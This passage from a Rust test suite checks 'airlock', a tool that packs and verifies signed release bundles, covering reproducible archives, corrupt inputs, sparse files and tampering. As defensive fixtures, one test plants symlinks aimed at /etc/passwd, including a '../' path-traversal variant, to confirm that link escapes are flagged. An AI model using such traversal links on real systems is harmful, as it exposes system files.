    let s = Scratch::new();
    s.airlock(&["keygen", "-o", "k"]);
    payload(&s, "a/payload", false);
    payload(&s, "b/payload", true);
    s.sh("find a -exec touch -h -d '2001-02-03 04:05:06' {} +");
    s.sh("find b -exec touch -h -d '2024-12-31 23:59:59' {} +");
    // Different owners when we can (root); harmless otherwise.
    s.sh("chown -R 12345:54321 b 2>/dev/null || true");
    for side in ["a", "b"] {
        let out = s.airlock(&[
            "pack",
            &format!("{side}/payload"),
            "-o",
            &format!("{side}.tar.gz"),
            "-k",
            "k.key",
        ]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let (a, b) = (s.read("a.tar.gz"), s.read("b.tar.gz"));
    assert!(
        a == b,
        "pack is not reproducible:\n{}",
        s.sh("cmp -l a.tar.gz b.tar.gz | head; true")
    );
    s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]).verified();
}

#[test]
fn hash_matches_sha256sum_byte_for_byte() {
    let s = Scratch::new();
    let names: &[&[u8]] = &[
        b"plain.txt",
        b"with space",
        b"back\\slash",
        b"new\nline",
        b"both\\\nend",
        b"sub/nested.bin",
        b"empty",
    ];
    fs::create_dir(s.path("sub")).unwrap();
    for (i, n) in names.iter().enumerate() {
        let bytes = if *n == b"empty" {
            Vec::new()
        } else {
            noise(1000 + i * 777, i as u64)
        };
        fs::write(s.path("").join(OsStr::from_bytes(n)), bytes).unwrap();
    }
    let args: Vec<&OsStr> = names.iter().map(|n| OsStr::from_bytes(n)).collect();
    let ours = s.airlock(&[&[OsStr::new("hash")][..], &args].concat());
    assert_eq!(ours.status.code(), Some(0));
    let theirs = Command::new("sha256sum")
        .args(&args)
        .current_dir(s.path(""))
        .output()
        .expect("sha256sum");
    assert!(theirs.status.success());
    assert_eq!(
        String::from_utf8_lossy(&ours.stdout),
        String::from_utf8_lossy(&theirs.stdout)
    );
    assert_eq!(ours.stdout, theirs.stdout);
    // And sha256sum -c accepts what airlock wrote.
    fs::write(s.path("SUMS"), &ours.stdout).unwrap();
    s.sh("sha256sum --strict -c SUMS >/dev/null");
}

// ----- 5. bad input ----------------------------------------------------------------------------

/// Verify a bad input: a JSON report with a clear finding, exit 1 or 2, no panic.
fn bad(s: &Scratch, file: &str, code: i32, verdict: &str, finding: &str) {
    let r = s.verify(&[file]);
    r.expect(code, verdict).has(finding);
    for f in r.findings() {
        assert!(
            !f["message"].as_str().unwrap_or("").is_empty(),
            "finding without a message; {}",
            r.context()
        );
    }
}

#[test]
fn bad_inputs_give_clear_errors() {
    let s = Scratch::new();
    s.write("garbage.bin", &noise(10_000, 42));
    s.write("empty", b"");
    s.release();
    s.sh("tar -czf b.tar.gz rel-1.0 && tar -cf b.tar rel-1.0");

    bad(&s, "garbage.bin", 2, "error", "nothing-to-verify");
    bad(&s, "empty", 2, "error", "nothing-to-verify");

    // gzip cut inside its header, and mid-stream.
    s.sh("head -c 5 b.tar.gz > head.tar.gz");
    let r = s.verify(&["head.tar.gz"]);
    r.failed_within("corrupt-archive", &["nothing-to-verify"]);
    s.sh("head -c 40000 b.tar.gz > mid.tar.gz");
    bad(&s, "mid.tar.gz", 1, "failed", "corrupt-archive");

    // A tar whose second header has a wrong checksum.
    let mut tar = s.read("b.tar");
    let second = 512; // rel-1.0/ is the first header, with no data
    assert_eq!(&tar[second..second + 8], b"rel-1.0/", "layout of the tar");
    tar[second + 100] ^= 0x01; // a byte of the mode field
    s.write("hdr.tar", &tar);
    assert!(!s
        .sh_status("tar -tf hdr.tar >/dev/null 2>&1")
        .status
        .success());
    bad(&s, "hdr.tar", 1, "failed", "corrupt-archive");

    // A tar whose first header is broken is not recognised as a tar at all.
    let mut tar = s.read("b.tar");
    tar[100] ^= 0x01;
    s.write("hdr0.tar", &tar);
    let r = s.verify(&["hdr0.tar"]);
    r.expect(2, "error");
    assert_eq!(
        r.serious(),
        BTreeSet::from(["nothing-to-verify".to_string()]),
        "{}",
        r.context()
    );

    // A signature file full of garbage beside a good bundle.
    s.write(
        "junk.minisig",
        b"untrusted comment: x\nnot base64 at all!!\n",
    );
    // (It is not taken for a signature: the unsigned list decides.)
    let r = s.verify(&["b.tar.gz", "junk.minisig"]);
    r.expect(1, "unsigned");
    assert!(r.serious().is_empty(), "{}", r.context());
    assert!(
        r.json["inputs"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["name"] == "junk.minisig" && i["role"] != "signature"),
        "{}",
        r.context()
    );

    // A path that does not exist: bad usage, exit 2, a message on stderr.
    let out = s.airlock(&["verify", "no-such-file"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no-such-file"));
    // A bad trusted key: exit 2.
    let out = s.airlock(&["verify", "b.tar.gz", "--trusted-key", "RWnotakey"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("bad trusted key RWnotakey"), "{stderr}");
    assert!(out.stdout.is_empty(), "no report for bad usage");
}

/// Maximum resident set size in kB from `/usr/bin/time -v` output.
fn max_rss_kb(stderr: &str) -> Option<u64> {
    stderr
        .lines()
        .find(|l| l.contains("Maximum resident set size"))
        .and_then(|l| l.rsplit(':').next())
        .and_then(|v| v.trim().parse().ok())
}

/// `truncate -s 2G f && sha256sum f`.
const ZEROS_2GIB: &str = "a7c744c13cc101ed66c29f672f92455547889cc586ce6d44fe76ae824958ea51";

#[test]
fn sparse_2gb_entry_streams_in_bounded_memory() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.write("sp/small.txt", b"small\n");
    s.sh("truncate -s 2G sp/big");
    // The list as sha256sum writes it. The line for `big` is written out rather than computed:
    // `sha256sum` reads the 2 GiB of holes in about 15 s on a slow machine, for a constant.
    s.sh(&format!(
        "cd sp && {{ echo '{ZEROS_2GIB}  big'; sha256sum small.txt; }} > SHA256SUMS"
    ));
    s.sh("minisign -S -s k.key -m sp/SHA256SUMS");
    s.sh("tar -S -czf sp.tar.gz sp");
    let size = fs::metadata(s.path("sp.tar.gz")).unwrap().len();
    assert!(
        size < 1 << 20,
        "tar -S made a sparse archive ({size} bytes)"
    );
    let listing = s.sh("tar -tvzf sp.tar.gz");
    assert!(listing.contains("2147483648"), "{listing}");

    // One run (hashing 2 GiB takes a while), under /usr/bin/time to measure its memory.
    let args = ["verify", "sp.tar.gz", "--trusted-key", "k.pub", "--json"];
    assert!(
        Path::new("/usr/bin/time").exists(),
        "/usr/bin/time is needed to measure memory (Debian package `time`; scripts/test.sh installs it)"
    );
    let out = Command::new("/usr/bin/time")
        .arg("-v")
        .arg(AIRLOCK)
        .args(args)
        .current_dir(s.path(""))
        .output()
        .expect("/usr/bin/time");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    let r = Checked {
        args: args.iter().map(|a| a.to_string()).collect(),
        code: out.status.code().expect("exit code"),
        json: serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("JSON: {e}; {stderr}")),
    };
    r.verified();
    assert_eq!(r.entry("sp/big")["size"], 2147483648u64, "{}", r.context());
    assert_eq!(r.entry("sp/big")["status"], "ok");
    let rss = max_rss_kb(&stderr).expect("max RSS in /usr/bin/time -v output");
    eprintln!("airlock verify of a 2 GiB sparse entry: max RSS {rss} kB");
    assert!(rss < 100 * 1024, "max RSS {rss} kB, want < 100 MB");
}

// ----- 6. trusted comments, list placement, folders, reproducible packs ------------------------

#[test]
fn minisign_trusted_comment_that_is_not_utf8() {
    // `minisign -S -t $'caf\xe9 v1'` signs the comment's bytes (Latin-1 é); `minisign -V`
    // accepts it and so must airlock. The report shows the byte escaped as \xE9.
    let s = Scratch::new();
    s.minisign_keys("k");
    s.release();
    s.sh(
        "minisign -S -s k.key -m rel-1.0/SHA256SUMS -t $'caf\\xe9 v1' \
          && minisign -V -p k.pub -m rel-1.0/SHA256SUMS > tc.out \
          && grep -q $'^Trusted comment: caf\\xe9 v1$' tc.out",
    );
    let sig = s.read("rel-1.0/SHA256SUMS.minisig");
    assert!(
        sig.windows(24).any(|w| w == b"trusted comment: caf\xe9 v1"),
        "minisign wrote the byte as it is"
    );
    s.sh("tar -czf b.tar.gz rel-1.0");
    let r = s.verify(&["b.tar.gz", "--trusted-key", "k.pub"]);
    r.verified();
    assert_eq!(r.count("ok"), 4, "{}", r.context());
    assert_eq!(r.sig("trusted_comment"), r"caf\xE9 v1", "{}", r.context());
    assert_eq!(r.sig("status"), "valid");

    // One byte of the comment changed (é -> è in Latin-1): minisign refuses, and so does airlock.
    let at = sig.windows(6).position(|w| w == b"caf\xe9 v").unwrap() + 3;
    let mut edited = sig.clone();
    edited[at] = 0xe8;
    s.write("rel-1.0/SHA256SUMS.minisig", &edited);
    assert!(!s
        .sh_status("minisign -V -p k.pub -m rel-1.0/SHA256SUMS")
        .status
        .success());
    s.sh("tar -czf e.tar.gz rel-1.0");
    let r = s.verify(&["e.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["bad-signature"]);
    assert_eq!(r.sig("status"), "invalid");
    assert_eq!(r.sig("trusted"), false);
}

#[test]
fn list_at_the_bundle_root() {
    // No top-level folder: SHA256SUMS and its signature sit at the archive's root, as
    // `tar -C rel-1.0 -czf b.tar.gz .` (./-prefixed names) or with the names given makes them.
    let s = signed();
    s.sh("tar -C rel-1.0 -czf dot.tar.gz . \
          && tar -C rel-1.0 -czf names.tar.gz SHA256SUMS SHA256SUMS.minisig README.txt \
             'with space.txt' data.bin sub");
    assert!(s
        .sh("tar -tzf dot.tar.gz")
        .lines()
        .any(|l| l == "./SHA256SUMS"));
    assert!(s
        .sh("tar -tzf names.tar.gz")
        .lines()
        .any(|l| l == "SHA256SUMS"));
    for bundle in ["dot.tar.gz", "names.tar.gz"] {
        let r = s.verify(&[bundle, "--trusted-key", "k.pub"]);
        r.verified();
        assert_eq!(r.count("ok"), 4, "{}", r.context());
        assert_eq!(r.sig("covers"), "SHA256SUMS", "{}", r.context());
        assert!(r.json["bundle"]["root"].is_null(), "{}", r.context());
    }
    // Tampered at the root: a changed file and an added one.
    s.write("rel-1.0/README.txt", b"changed\n");
    s.write("rel-1.0/evil.sh", b"#!/bin/sh\n");
    s.sh("tar -C rel-1.0 -czf t.tar.gz .");
    let r = s.verify(&["t.tar.gz", "--trusted-key", "k.pub"]);
    r.failed_with(&["hash-mismatch", "extra"]);
    assert_eq!(
        r.entry("./README.txt")["status"],
        "mismatch",
        "{}",
        r.context()
    );
    assert_eq!(r.entry("./evil.sh")["status"], "extra", "{}", r.context());
}

#[test]
fn two_signed_lists_that_disagree() {
    // The bundle's own signed list and a second signed list beside it give different hashes
    // for the same file: list-disagreement, whichever list the file matches.
    let s = signed();
    s.sh("tar -czf b.tar.gz rel-1.0");
    s.sh("cd rel-1.0 && sha256sum README.txt data.bin > ../OTHER");
    s.sh("minisign -S -s k.key -m OTHER");
    // Agreeing lists: verified.
    s.verify(&[
        "b.tar.gz",
        "OTHER",
        "OTHER.minisig",
        "--trusted-key",
        "k.pub",
    ])
    .verified();
    // One hash changed in the second list, which is signed again.
    s.sh("sed -i '1s/^./0/;1s/^00/11/' OTHER && minisign -S -s k.key -m OTHER");
    assert_ne!(
        s.sh("head -c 64 OTHER"),
        sha256_hex(&s, "rel-1.0/README.txt")
    );
    let r = s.verify(&[
        "b.tar.gz",
        "OTHER",
        "OTHER.minisig",
        "--trusted-key",
        "k.pub",
    ]);
    r.failed_within("list-disagreement", &["hash-mismatch"]);
    let paths: Vec<&str> = r
        .findings()
        .iter()
        .filter(|f| f["code"] == "list-disagreement")
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["rel-1.0/README.txt"], "{}", r.context());
    assert!(
        r.json["signatures"]
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["status"] == "valid" && s["trusted"] == true),
        "both lists are genuinely signed; {}",
        r.context()
    );
}

/// `airlock verify` with a time limit (a FIFO opened for reading would block forever).
fn verify_within(s: &Scratch, args: &[&str], seconds: u32) -> Checked {
    let mut full = vec!["verify"];
    full.extend_from_slice(args);
    full.push("--json");
    let out = Command::new("timeout")
        .arg(seconds.to_string())
        .arg(AIRLOCK)
        .args(&full)
        .current_dir(s.path(""))
        .stdin(Stdio::null())
        .output()
        .expect("timeout (coreutils)");
    let code = out.status.code().expect("exit code");
    assert_ne!(code, 124, "airlock {full:?} did not finish in {seconds} s");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    Checked {
        args: full.iter().map(|a| a.to_string()).collect(),
        code,
        json: serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("JSON: {e}; {stderr}")),
    }
}

#[test]
fn folder_with_symlinks_and_fifos() {
    let s = Scratch::new();
    s.minisign_keys("k");
    s.write("rel/a.txt", b"alpha\n");
    s.write("rel/docs/b.txt", b"bravo\n");
    // An internal link to a listed file, itself listed (sha256sum hashes what it points to),
    // and an internal link to a folder.
    s.sh("cd rel && ln -s a.txt current && ln -s docs manual \
          && sha256sum a.txt docs/b.txt current > SHA256SUMS \
          && cd .. && minisign -S -s k.key -m rel/SHA256SUMS");
    let r = verify_within(&s, &["rel", "--trusted-key", "k.pub"], 60);
    r.verified();
    assert_eq!(r.json["bundle"]["format"], "directory");
    assert_eq!(r.entry("current")["kind"], "symlink", "{}", r.context());
    assert_eq!(r.entry("manual")["kind"], "symlink", "{}", r.context());
    assert_eq!(r.count("ok"), 3, "{}", r.context());

    // A FIFO in the folder: a special file, never opened (no hang), failed.
    s.sh("mkfifo rel/pipe");
    let r = verify_within(&s, &["rel", "--trusted-key", "k.pub"], 60);
    r.failed_with(&["special-file"]);
    assert_eq!(r.entry("pipe")["kind"], "fifo", "{}", r.context());
    s.sh("rm rel/pipe");

    // A link out of the folder: link-escape, whether it names an absolute path or climbs out.
    for target in ["/etc/passwd", "../../../../../../etc/passwd"] {
        s.sh(&format!("ln -sfn '{target}' rel/docs/evil"));
        let r = verify_within(&s, &["rel", "--trusted-key", "k.pub"], 60);
        r.failed_with(&["link-escape"]);
        assert_eq!(r.entry("docs/evil")["kind"], "symlink", "{}", r.context());
    }
    s.sh("rm rel/docs/evil");
    s.verify(&["rel", "--trusted-key", "k.pub"]).verified();
}

#[test]
fn pack_stamps_source_date_epoch() {
    let s = Scratch::new();
    s.airlock(&["keygen", "-o", "k"]);
    payload(&s, "payload", false);
    s.sh("find payload -exec touch -h -d '2001-02-03 04:05:06' {} +");
    let pack = |out: &str, epoch: Option<&str>| {
        let o = s.airlock_with(&["pack", "payload", "-o", out, "-k", "k.key"], epoch);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    const EPOCH: &str = "1700000000"; // 2023-11-14 22:13:20 UTC
    pack("one.tar.gz", Some(EPOCH));
    // Touched in between: the files' own times must not matter.
    s.sh("find payload -exec touch -h -d '2024-12-31 23:59:59' {} +");
    pack("two.tar.gz", Some(EPOCH));
    assert!(
        s.read("one.tar.gz") == s.read("two.tar.gz"),
        "two packs with the same SOURCE_DATE_EPOCH differ:\n{}",
        s.sh("cmp -l one.tar.gz two.tar.gz | head; true")
    );
    // Every tar header carries the epoch, as GNU tar and Python's tarfile read it.
    let listing = s.sh("TZ=UTC tar --full-time -tvzf one.tar.gz");
    assert!(listing.lines().count() >= 8, "{listing}");
    for line in listing.lines() {
        assert!(line.contains(" 2023-11-14 22:13:20 "), "{line}");
    }
    let mtimes = s.sh(
        "python3 -c \"import tarfile; print(sorted({m.mtime for m in tarfile.open('one.tar.gz')}))\"",
    );
    assert_eq!(mtimes.trim(), format!("[{EPOCH}]"));
    // The signed trusted comment records it too.
    let r = s.verify(&["one.tar.gz", "--trusted-key", "k.pub"]);
    r.verified();
    let tc = r.sig("trusted_comment").as_str().unwrap().to_string();
    assert!(tc.contains(&format!("timestamp:{EPOCH}")), "{tc}");

    // Another epoch: other bytes (the epoch is really what is stamped), and without it: time 0.
    pack("three.tar.gz", Some("1700000001"));
    assert!(s.read("three.tar.gz") != s.read("one.tar.gz"));
    let listing = s.sh("TZ=UTC tar --full-time -tvzf three.tar.gz");
    assert!(
        listing.lines().all(|l| l.contains(" 2023-11-14 22:13:21 ")),
        "{listing}"
    );
    pack("none.tar.gz", None);
    let listing = s.sh("TZ=UTC tar --full-time -tvzf none.tar.gz");
    assert!(
        listing.lines().all(|l| l.contains(" 1970-01-01 00:00:00 ")),
        "{listing}"
    );
}
